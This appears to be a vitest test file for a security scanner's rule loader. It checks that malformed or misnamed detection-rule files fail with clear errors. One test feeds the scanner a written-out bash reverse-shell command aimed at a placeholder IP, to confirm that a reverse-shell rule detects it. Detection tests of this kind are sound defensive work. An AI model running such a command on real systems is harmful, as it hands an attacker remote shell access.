/** Rule files are validated at load: a broken rule is an exit-2 error naming the file, never a silent no-op. */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { isClawguardError } from '../../src/core/errors.js';
import { DEFAULT_RULES_DIR, inspectFileText, loadRules } from '../../src/inspect/index.js';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-rules-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
const good = fs.readFileSync(path.join(DEFAULT_RULES_DIR, 'threat-reverse-shell.yaml'), 'utf8');

function ruleDir(name: string, files: Record<string, string>): string {
  const dir = path.join(tmp, name);
  fs.mkdirSync(dir);
  for (const [f, t] of Object.entries(files)) fs.writeFileSync(path.join(dir, f), t);
  return dir;
}

function expectRuleError(dir: string, re: RegExp) {
  try {
    loadRules(dir);
    expect.unreachable('loadRules should throw');
  } catch (err) {
    expect(isClawguardError(err)).toBe(true);
    expect((err as { exitClass: string }).exitClass).toBe('input');
    expect((err as Error).message).toMatch(re);
  }
}

describe('rule files', () => {
  it('the shipped rules load, follow the taxonomy and name real signals', () => {
    const rules = loadRules();
    expect(rules.length).toBeGreaterThanOrEqual(50);
    for (const r of rules.filter((x) => x.match)) expect(r.id).toMatch(/^(capability|threat|skill|package)-/);
    for (const r of rules.filter((x) => x.effects)) expect(r.id).toMatch(/^behaviour-/);
    for (const r of rules.filter((x) => !x.match && !x.effects)) expect(r.emittedBy, r.id).toBeDefined();
    // Capabilities alone never block.
    for (const r of rules.filter((x) => x.id.startsWith('capability-'))) expect(['info', 'low']).toContain(r.severity);
  });

  it('refuses a behaviour rule that names an effect value no translator produces, naming the file', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cg-rules-'));
    fs.writeFileSync(
      path.join(dir, 'behaviour-typo.yaml'),
      ['id: behaviour-typo', 'title: A rule with a typo', 'description: A behaviour rule whose host class is misspelled.', 'severity: critical', 'specificity: high', 'appliesTo: [skill]', 'remediation: Fix the spelling.', 'references: []', 'effects:', '  effect:', '    kind: [send]', '    hostClass: [raw_ip]', ''].join('\n'),
    );
    expect(() => loadRules(dir)).toThrow(/behaviour-typo\.yaml names effect values that do not exist: hostClass: raw_ip/);
    fs.writeFileSync(path.join(dir, 'behaviour-typo.yaml'), fs.readFileSync(path.join(dir, 'behaviour-typo.yaml'), 'utf8').replace('raw_ip', 'raw-ip'));
    expect(loadRules(dir).map((r) => r.id)).toEqual(['behaviour-typo']);
  });

  it('rejects invalid YAML, schema violations, id/file mismatches and duplicate ids, naming the file', () => {
    expectRuleError(ruleDir('yaml', { 'threat-x.yaml': 'id: [' }), /threat-x\.yaml is not valid YAML/);
    const noSeverity = parse(good);
    delete noSeverity.severity;
    expectRuleError(ruleDir('schema', { 'threat-reverse-shell.yaml': JSON.stringify(noSeverity) }), /threat-reverse-shell\.yaml is invalid: .*severity/);
    expectRuleError(ruleDir('badref', { 'threat-reverse-shell.yaml': good.replace('shell.reverse-shell', 'Shell Reverse!') }), /invalid/);
    expectRuleError(ruleDir('name', { 'threat-other.yaml': good }), /must be named threat-reverse-shell\.yaml/);
    expectRuleError(ruleDir('empty', {}), /no rule files/);
  });

  it('a custom rules directory changes what is found', () => {
    const dir = ruleDir('custom', { 'threat-reverse-shell.yaml': good });
    const text = 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n';
    expect(inspectFileText('x.sh', text, { rulesDir: dir }).findings.map((f) => f.ruleId)).toEqual(['threat-reverse-shell']);
  });
});
